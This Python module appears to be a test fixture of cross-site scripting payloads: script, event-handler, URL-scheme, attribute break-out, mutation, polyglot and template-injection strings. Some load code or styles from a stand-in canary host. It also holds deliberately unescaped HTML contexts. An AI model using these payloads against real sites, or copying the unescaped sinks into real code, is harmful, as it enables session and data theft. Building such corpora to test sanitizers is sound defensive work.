"""What attackers write into texts, so that it runs where they are shown. What runs calls `pwned()`, or fetches from
the canary; templates that are run give away a product.

Each is a shape known to have worked somewhere: `CONTEXTS` are pages that escape nothing, and in one of them at least
every one of these does run (a test holds that).
"""

import html
import json
from collections.abc import Callable, Mapping

CANARY = "https://canary.invalid/"
FACTORS = "1337*7331"
PRODUCT = "9801547"
IMAGE = "<img src=x onerror=pwned()>"

SCRIPTS = (
    "<script>pwned()</script>",
    "<ScRiPt\t>pwned()</sCrIpT >",
    "<scr<script>ipt>pwned()</scr</script>ipt><script>pwned()</script>",
    f"<script src={CANARY}pwned.js></script>",
    "</script><script>pwned()</script>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    f"<base href={CANARY}><script src=/pwned.js></script>",
)
HANDLERS = (
    IMAGE,
    "<svg/onload=pwned()>",
    "<body onload=pwned()>",
    "<input autofocus onfocus=pwned()>",
    "<details open ontoggle=pwned()>x</details>",
    "<video><source onerror=pwned()></video>",
    "<b onmouseover=pwned()>touch</b>",
    "<style>@keyframes x{}</style><b style='animation-name:x' onanimationstart=pwned()>x</b>",
)
ADDRESSES = (
    "javascript:pwned()",
    "JaVaScRiPt:pwned()",
    " \x01javascript:pwned()",
    "java\tscript:pwned()",
    "javascript://news.example/%0Apwned()",
    "data:text/html,<script>pwned()</script>",
    "data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+#pwned",
    "vbscript:pwned()",
    "//canary.invalid/pwned",
    "https://news.example/\"onmouseover='pwned()'x=\"",
    "http://[pwned()",
)
BREAK_OUTS = (
    '" onmouseover="pwned()" x="',
    "' onmouseover='pwned()' x='",
    "x onmouseover=pwned() y",
    "`` onmouseover=pwned() x=``",
    f"\"'>{IMAGE}",
    f"--><!-- -->{IMAGE}",
    "'-pwned()-'",
    '"-pwned()-"',
    "${pwned()}",
    "\\';pwned()//",
)
POLYGLOT = (
    "javascript:/*--></title></style></textarea></script></noscript></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/"
    "+pwned()//'>"
)
CLOSERS = (
    f"</textarea>{IMAGE}",
    f"</title>{IMAGE}",
    f"</style>{IMAGE}",
    f"</noscript></template></select>{IMAGE}",
    f"]]>{IMAGE}",
)
FOREIGN = (
    "<svg><script>pwned()</script></svg>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s></svg>",
    "<svg><a xlink:href='javascript:pwned()'><text y=20>pwned</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.pwned()</script>'></iframe></foreignObject></svg>",
    "<math><mtext></mtext><maction actiontype=statusline xlink:href=javascript:pwned()>x</maction></math>"
    + IMAGE,
)
TEMPLATES = (
    f"{{{{ {FACTORS} }}}}<!--pwned-->",
    f"{{% set x = {FACTORS} %}}{{{{ x }}}}<!--pwned-->",
    f"{{{{ ({FACTORS}) | string | safe }}}}<!--pwned-->",
)
UNSEEN = (
    f"\u2028{IMAGE}\u2029",
    "\u2028pwned()\u2028//",
    f"\u202e\u2066{IMAGE}\u2069\u202c",
    f"\ufeff<\u200bimg src=x>{IMAGE}",
    f"\x0b\x0c\x1f{IMAGE}",
)
STYLES = (
    f"<style>@import '{CANARY}pwned.css';</style><!--pwned-->",
    f"red;background:url({CANARY}pwned)",
    f"}}*{{background:url({CANARY}pwned)}}",
    f"<link rel=stylesheet href={CANARY}pwned.css>",
    f"<meta http-equiv=refresh content='0;url={CANARY}pwned'>",
)
MUTATING = (
    '<svg></p><style><a id="</style><img src=x onerror=pwned()>">',
    '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=pwned()&gt;">',
    "&lt;img src=x onerror=pwned()&gt;",
    "&amp;lt;img src=x onerror=pwned()&amp;gt;<!---->",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=pwned()>",
)
FAMILIES: Mapping[str, tuple[str, ...]] = {
    "scripts": SCRIPTS,
    "handlers": HANDLERS,
    "addresses": ADDRESSES,
    "break-outs": BREAK_OUTS,
    "closers": CLOSERS,
    "foreign": FOREIGN,
    "templates": TEMPLATES,
    "unseen": UNSEEN,
    "styles": STYLES,
    "mutating": MUTATING,
}
PAYLOADS = (POLYGLOT, *(payload for family in FAMILIES.values() for payload in family))
# One of each kind, for when time is short.
TELLING = (POLYGLOT, "javascript:pwned()", f"\"'>{IMAGE}", SCRIPTS[0], TEMPLATES[0], UNSEEN[0])

# Pages that put a text where it is, as nobody must.
CONTEXTS: Mapping[str, Callable[[str], str]] = {
    "text": lambda p: f"<p>{p}</p>",
    "text, unescaped once and twice": lambda p: (
        f"<p>{html.unescape(p)}</p><p>{html.unescape(html.unescape(p))}</p>"
    ),
    "attribute": lambda p: f'<b title="{p}">x</b>',
    "attribute in apostrophes": lambda p: f"<b title='{p}'>x</b>",
    "attribute in nothing": lambda p: f"<b title={p}>x</b>",
    "link": lambda p: f'<a href="{html.escape(p)}">x</a>',
    "title": lambda p: f"<title>{p}</title>",
    "textarea": lambda p: f"<textarea>{p}</textarea>",
    "select": lambda p: f"<select><option>{p}</select>",
    "comment": lambda p: f"<!-- {p} -->",
    "noscript": lambda p: f"<noscript>{p}</noscript>",
    "style": lambda p: f"<style>p{{color:{p}}}</style><p>x</p>",
    "style attribute": lambda p: f'<p style="color:{html.escape(p)}">x</p>',
    "script": lambda p: f"<script>var x = '{p}'</script>",
    "script, quotes": lambda p: f'<script>var x = "{p}"</script>',
    "script, backticks": lambda p: f"<script>var x = `{p}`</script>",
    "script, JSON": lambda p: f"<script>var x = {json.dumps(p)}</script>",
    "script, comment": lambda p: f"<script>// {p}</script>",
    "script that writes": lambda p: (
        f"<div id=x></div><script>x.innerHTML = {json.dumps(p).replace('<', chr(92) + 'u003c')}</script>"
    ),
}
